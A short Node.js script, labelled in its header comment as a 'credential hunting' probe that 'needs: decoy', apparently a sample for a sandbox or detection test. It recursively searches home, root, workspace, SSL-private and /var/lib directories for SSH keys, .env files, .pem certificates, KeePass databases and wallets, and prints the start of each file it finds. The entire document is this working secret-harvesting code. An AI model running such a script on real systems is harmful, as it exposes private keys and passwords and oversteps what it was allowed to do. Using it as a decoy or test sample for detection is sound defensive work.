// class: credential hunting; possible: low; needs: decoy; style: walks, reads by name
const fs = require('fs'), path = require('path');
const want = /(\.env|id_rsa|id_ed25519|credentials|\.pem|\.kdbx|wallet)/;
function walk(d, depth) {
  let list = [];
  try { list = fs.readdirSync(d, { withFileTypes: true }); } catch { return; }
  for (const e of list) {
    const p = path.join(d, e.name);
    if (e.isDirectory() && depth < 5) walk(p, depth + 1);
    else if (want.test(e.name)) {
      try { console.log(p, fs.readFileSync(p, 'latin1').slice(0, 200)); } catch (err) { console.log(p, err.code); }
    }
  }
}
for (const d of ['/workspace', '/home', '/root', '/etc/ssl/private', '/var/lib']) walk(d, 0);
